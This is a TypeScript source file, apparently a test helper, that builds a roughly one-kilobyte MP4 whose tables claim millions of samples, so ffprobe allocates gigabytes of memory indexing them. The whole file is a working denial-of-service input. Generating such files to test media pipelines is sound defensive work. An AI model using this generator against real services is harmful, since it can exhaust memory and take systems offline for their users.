/**
 * An MP4 of about a kilobyte whose tables claim `samples` samples of one byte: ffprobe builds an index entry for each of them
 * before anything can be checked, about 32 bytes in memory. With 85 million samples that is 2.7 GB.
 */
export function indexBomb(samples: number): Buffer {
  const video = box(
    'stbl',
    table('stsd', 1, box('avc1', Buffer.concat([zeros(6), u16(1), zeros(16), u16(64), u16(64), VIDEO_TAIL]))),
    table('stts', 1, Buffer.concat([u32(samples), u32(1)])),
    table('ctts', 1, Buffer.concat([u32(samples), u32(0)])),
    table('stsc', 1, Buffer.concat([u32(1), u32(samples), u32(1)])),
    full('stsz', Buffer.concat([u32(1), u32(samples)])),
    table('stco', 1, u32(48)),
  )
  const dref = table('dref', 1, full('url ', Buffer.alloc(0), 1))
  const media = box(
    'mdia',
    full('mdhd', Buffer.concat([zeros(8), u32(1000), u32(samples), zeros(4)])),
    full('hdlr', Buffer.concat([zeros(4), Buffer.from('vide'), zeros(13)])),
    box('minf', full('vmhd', zeros(8), 1), box('dinf', dref), video),
  )
  const track = box(
    'trak',
    full(
      'tkhd',
      Buffer.concat([
        zeros(8),
        u32(1),
        zeros(4),
        u32(samples),
        zeros(16),
        MATRIX,
        u32(64 << 16),
        u32(64 << 16),
      ]),
      3,
    ),
    media,
  )
  const header = full(
    'mvhd',
    Buffer.concat([
      zeros(8),
      u32(1000),
      u32(samples),
      u32(0x10000),
      u16(0x100),
      zeros(10),
      MATRIX,
      zeros(24),
      u32(2),
    ]),
  )
  const brand = box('ftyp', Buffer.from('isom\0\0\x02\0isommp41', 'latin1'))
  return Buffer.concat([brand, box('mdat', zeros(4096)), box('moov', header, track)])
}

const zeros = (length: number) => Buffer.alloc(length)
function u16(value: number): Buffer {
  const bytes = zeros(2)
  bytes.writeUInt16BE(value)
  return bytes
}
function u32(value: number): Buffer {
  const bytes = zeros(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}
const MATRIX = Buffer.concat([0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000].map(u32))
/** Resolution, frame count, compressor name, depth, and the end marker of a sample entry. */
const VIDEO_TAIL = Buffer.concat([
  u32(72 << 16),
  u32(72 << 16),
  zeros(4),
  u16(1),
  zeros(32),
  u16(24),
  u16(0xffff),
])

function box(type: string, ...contents: Buffer[]): Buffer {
  const content = Buffer.concat(contents)
  return Buffer.concat([u32(content.length + 8), Buffer.from(type), content])
}
const full = (type: string, content: Buffer, flags = 0) => box(type, u32(flags), content)
const table = (type: string, count: number, entries: Buffer) =>
  full(type, Buffer.concat([u32(count), entries]))
